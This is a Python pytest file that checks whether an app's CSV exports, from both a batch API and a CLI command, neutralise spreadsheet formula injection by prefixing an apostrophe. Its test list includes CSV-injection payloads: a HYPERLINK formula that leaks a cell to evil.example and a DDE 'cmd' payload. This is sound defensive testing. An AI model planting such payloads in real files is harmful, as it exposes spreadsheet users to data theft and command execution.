"""Every CSV Handoff writes is safe to open in a spreadsheet: a text cell that would run as a
formula (starting with = + - @, a tab or a carriage return) is written with a leading
apostrophe; numbers stay numbers.

Handoff writes CSV in two places, both tested here through what a user receives: the answer to
a batch upload asked for as `text/csv`, and the results file of `flask orders check -o x.csv`.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from app.exports import FORMULA_STARTS, safe_cell
from tests.api.builders import World, make_deal

HOSTILE_POS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE_POS)
def test_a_text_cell_that_starts_a_formula_is_neutralised(text: str):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, 12, 0, "PO-5521", "Net 30", "", "a=b"])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert safe_cell(value) == value


def hostile_batch(deal_id: int) -> bytes:
    """Orders whose PO numbers and SKUs are formulas; every one of them is checked."""
    orders = [{"deal_id": deal_id, "po_number": po, "order_date": "2026-12-01",
               "requested_ship_date": "2026-12-04", "currency": "USD",
               "lines": [{"sku": "@A-100", "quantity": 10, "unit_price": "9.00"}]}
              for po in HOSTILE_POS]
    lines = [json.dumps(order) for order in orders]
    lines.append('{"po_number": "=1+1", "lines": "-not a list"}')  # an invalid order, too
    return "\n".join(lines).encode()


def assert_no_cell_runs_as_a_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows, "the CSV is empty"
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)
    return rows


def test_the_batch_answer_as_csv_neutralises_every_formula(world: World):
    deal = make_deal(world)

    response = world.fulfillment.post("/api/v1/orders/check-batch",
                                      data=hostile_batch(deal["id"]),
                                      headers={"Content-Type": "application/x-ndjson",
                                               "Accept": "text/csv"})

    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    rows = assert_no_cell_runs_as_a_formula(response.get_data(as_text=True))
    header, *results = rows
    assert header[:6] == ["index", "po_number", "deal_id", "order_id", "check_id", "status"]
    # PO numbers are kept trimmed, so the tab and CR ones come back as "=1+1": still neutralised.
    assert [r[1] for r in results] == ["'" + po.strip() for po in HOSTILE_POS] + ["'=1+1"]
    assert all("NO_AGREED_PRICE" in r[7] or r[5] == "invalid" for r in results)


def test_the_batch_answer_is_json_unless_csv_is_asked_for(world: World):
    deal = make_deal(world)

    response = world.fulfillment.post("/api/v1/orders/check-batch",
                                      data=hostile_batch(deal["id"]),
                                      headers={"Content-Type": "application/x-ndjson"})

    assert response.mimetype == "application/json"
    assert [r.get("po_number") for r in response.json["results"]][:6] \
        == [po.strip() for po in HOSTILE_POS]


def test_the_cli_results_file_as_csv_neutralises_every_formula(world: World, tmp_path: Path):
    deal = make_deal(world)
    batch = tmp_path / "orders.jsonl"
    batch.write_bytes(hostile_batch(deal["id"]))
    out = tmp_path / "results.csv"

    result = world.app.test_cli_runner().invoke(args=[
        "orders", "check", str(batch), "--as", "fred@seller.example", "-o", str(out)])

    assert result.exit_code == 0, result.output
    rows = assert_no_cell_runs_as_a_formula(out.read_text(encoding="utf-8"))
    assert [r[1] for r in rows[1:]] == ["'" + po.strip() for po in HOSTILE_POS] + ["'=1+1"]
